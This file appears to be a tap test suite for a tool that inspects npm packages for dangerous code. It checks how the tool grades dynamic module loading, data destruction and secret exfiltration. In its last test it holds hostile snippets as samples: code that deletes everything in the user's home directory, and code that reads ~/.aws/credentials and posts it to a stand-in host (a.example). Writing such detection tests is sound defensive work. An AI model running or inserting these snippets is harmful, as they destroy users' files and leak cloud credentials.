import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { readingOf } from './python-reading.ts'

/** What is said of a package whose entry, or whose install script, is `code`: grades of `check`. */
async function told(check: string, code: string, moment: 'import' | 'install'): Promise<readonly string[]> {
  const scripts = moment === 'install' ? { postinstall: 'node index.js' } : {}
  const files = {
    'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', main: 'index.js', scripts }),
    'index.js': code,
    'lib/a.js': 'exports.a = 1',
    'lib/b.js': 'exports.b = 1',
  }
  const { findings } = await inspect(readingOf('npm-tarball', files), { digest: sha256('x'), readAs: 'npm-tarball' })
  return findings.filter((each) => each.check === check).map((each) => `${each.severity} ${each.moment}`)
}

const KEY = 'const key = globalThis.settings\n'

t.test('what runs by itself loads or calls what cannot be told', async (t) => {
  for (const [what, code] of [
    ['a module by an argument of the command', `require(JSON.parse(process.argv[2]).name)`],
    ['a module by a variable of the environment', `require(process.env.PLUGIN)`],
    ['a module by what is imported', `${KEY}import(key.name)`],
    ['a module below a folder that is not known', `${KEY}require(key.folder + '/lib/a.js')`],
    [
      'a module in a function that is called at once',
      `${KEY}function load(name) { return require(name) }\nload(key.name)`,
    ],
    ['a member of process', `${KEY}process[key.name]('x')`],
    ['a member of fs', `${KEY}require('fs')[key.name]('a', 'b')`],
    ['a member of https', `${KEY}require('https')[key.name]('https://a.example/')`],
    ['a member of the global object', `${KEY}globalThis[key.name]('x')`],
  ] as const) {
    t.same(await told('not-examined', code, 'import'), ['low import'], `${what}, when it is imported`)
    t.same(await told('not-examined', code, 'install'), ['medium install'], `${what}, at install`)
  }
})

t.test('a function of its own gives the name', async (t) => {
  const own = `${KEY}function dark(at) { return key.names[at] }\n`
  for (const [what, code, severity] of [
    ['of a module', `${own}require(dark(3))`, 'medium'],
    ['of a module that is imported', `${own}import(dark(3))`, 'medium'],
    ['of a member of fs', `${own}require('fs')[dark(3)]('a')`, 'medium'],
    ['of one module, and a setting that of another', `${own}require(key.name); require(dark(3))`, 'medium'],
    ['of a file, below a folder', `${own}require(dark(3) + '/a.js')`, 'low'],
  ] as const)
    t.same(await told('not-examined', code, 'import'), [`${severity} import`], what)
})

t.test('what can be told, or waits to be called, is no such thing', async (t) => {
  for (const [what, code] of [
    ['a module that somebody names who calls', `module.exports = (name) => require(name)`],
    ['a name that is worked out', `require(['f', 's'].join(''))`],
    ['a name out of a list', `for (const name of ['fs', 'path']) require(name)`],
    ['a name that comes to a function later', `function load(name) { return require(name) }\nload('fs')`],
    ['files of a folder of its own', `${KEY}require('./lib/' + key.name)`],
    ['members of fs by their names', `const fs = require('fs'); for (const name of ['open', 'read']) fs[name]('a')`],
    ['a member that is read and not called', `${KEY}const fs = require('fs'); exports.own = fs[key.name]`],
    ['a member of an object of its own', `${KEY}const own = { go() {} }; own[key.name]()`],
  ] as const) {
    t.same(await told('not-examined', code, 'import'), [], `${what}, when it is imported`)
    t.same(await told('not-examined', code, 'install'), [], `${what}, at install`)
  }
})

t.test('paths that begin where a program moved to', async (t) => {
  const each = `for (const name of fs.readdirSync('.')) fs.rmSync(name, { recursive: true })`
  const fs = `const fs = require('fs')\n`
  for (const [what, code, check, want] of [
    ['all of an account is deleted', `${fs}process.chdir(require('os').homedir())\n${each}`, 'destruction', 1],
    ['all beside the package is deleted', `${fs}process.chdir('..')\n${each}`, 'destruction', 1],
    ['a folder of its own is emptied', `${fs}process.chdir('build')\n${each}`, 'destruction', 0],
    [
      'a folder of its own is emptied, by its path',
      `${fs}process.chdir(__dirname + '/build')\n${each}`,
      'destruction',
      0,
    ],
    [
      'credentials are sent',
      `${fs}process.chdir(require('os').homedir() + '/.aws')\nrequire('https').request('https://a.example/').end(fs.readFileSync('credentials'))`,
      'secrets-exfiltration',
      1,
    ],
    [
      'a file of its own is sent',
      `${fs}process.chdir(__dirname + '/data')\nrequire('https').request('https://a.example/').end(fs.readFileSync('credentials'))`,
      'secrets-exfiltration',
      0,
    ],
  ] as const)
    t.equal((await told(check, code, 'install')).length, want, what)
})
